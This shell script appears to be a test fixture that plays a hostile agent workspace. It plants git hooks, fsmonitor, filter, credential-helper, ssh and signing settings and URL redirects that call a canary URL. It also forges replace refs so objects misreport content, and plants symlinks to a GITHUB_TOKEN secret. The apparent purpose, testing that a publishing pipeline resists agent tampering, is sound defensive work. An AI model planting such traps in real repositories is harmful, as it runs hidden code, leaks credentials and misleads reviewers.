#!/bin/sh
# Leaves in every repository and configuration that it can write whatever makes git run a program or go elsewhere, and springs each trap once
# by hand, so that the test sees that it works. CANARY is the URL at which a sprung trap knocks, REPOSITORY the task's, PASS a command that waits for the test.
checkout=$PWD
workspace=$(dirname "$PWD")
base=$workspace/base.git
forge=${REPOSITORY%/*/*}/
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@example.com GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@example.com

cat >"$workspace/canary" <<END
#!/bin/sh
node -e 'require("http").get(process.argv[1], (answer) => answer.resume()).on("error", () => {})' "$CANARY/\$1"
if test "\$1" = filter; then cat; fi
END
# This one is no command line, but the path of a program.
printf '#!/bin/sh\nexec "%s" signing\n' "$workspace/canary" >"$workspace/signing"
chmod 755 "$workspace/canary" "$workspace/signing"

hooks() {
  mkdir -p "$1"
  for hook in reference-transaction pre-commit post-commit pre-push post-checkout post-index-change pre-receive update post-receive; do
    printf '#!/bin/sh\nexec "%s" %s\n' "$workspace/canary" "$2" >"$1/$hook"
    chmod 755 "$1/$hook"
  done
}

# Settings of a file: the trap's name is what the canary is told.
settings() {
  set_in() { git config --file "$file" "$@"; }
  file=$1
  set_in core.fsmonitor "$workspace/canary fsmonitor"
  set_in filter.canary.clean "$workspace/canary filter"
  set_in filter.canary.smudge "$workspace/canary filter"
  set_in diff.external "$workspace/canary external-diff"
  set_in credential.helper "!$workspace/canary credential-helper"
  set_in core.sshCommand "$workspace/canary ssh-command"
  set_in gpg.program "$workspace/signing"
  set_in uploadpack.packObjectsHook "$workspace/canary pack-objects"
  set_in "url.$CANARY/instead-of/.insteadOf" "$forge"
  set_in remote.origin.pushurl "$CANARY/push-url"
}

hooks "$checkout/.git/hooks" hook
hooks "$base/hooks" hook-of-base
hooks "$workspace/hooks" hooks-path
settings "$HOME/.gitconfig"
settings "$checkout/.git/config"
settings "$base/config"
git config --file "$base/config" core.bare true
mkdir -p "$checkout/.git/info" "$base/info"
echo '* filter=canary' | tee "$checkout/.git/info/attributes" >"$base/info/attributes"

cp src/encode.js "$workspace/encode.js"
{
  echo change >>src/encode.js
  git status
  git diff
  git add src/encode.js
  git commit -m 'A commit of the agent'
  git commit --allow-empty --gpg-sign -m 'A signed one'
  printf 'protocol=https\nhost=example.com\n\n' | git credential fill
  git ls-remote "$REPOSITORY"
  git push origin HEAD:refs/heads/stray
  env -u GIT_SSH_COMMAND git ls-remote ssh://git@example.com/a/b
  git clone --quiet --bare --no-local "$checkout" "$workspace/cloned.git"
  git --git-dir="$base" update-ref refs/heads/sprung HEAD
  git --git-dir="$base" -c core.hooksPath="$workspace/hooks" update-ref refs/heads/sprung-too HEAD
  git config core.hooksPath "$workspace/hooks"
  git config --file "$base/config" core.hooksPath "$workspace/hooks"
} >/dev/null 2>&1

# What the pull request must show is what lies in the files, whatever these say of the objects.
echo 'The real change' >CHANGES.md
evil=$(echo 'Another text' | git hash-object -w --stdin)
real=$(git -c filter.canary.clean= hash-object -w --no-filters CHANGES.md)
for repository in "$checkout/.git" "$base"; do
  git --git-dir="$repository" update-ref "refs/replace/$real" "$evil" 2>/dev/null
  echo "$workspace/cloned.git/objects" >>"$repository/objects/info/alternates"
done
cp "$workspace/encode.js" src/encode.js
# Where publish has the token, here nothing is: a link that is followed there would bring it out.
ln -s /var/run/secrets/bgtask/forge/GITHUB_TOKEN link-to-token
ln -s /var/run/secrets/bgtask/forge folder-of-token
eval "$PASS"
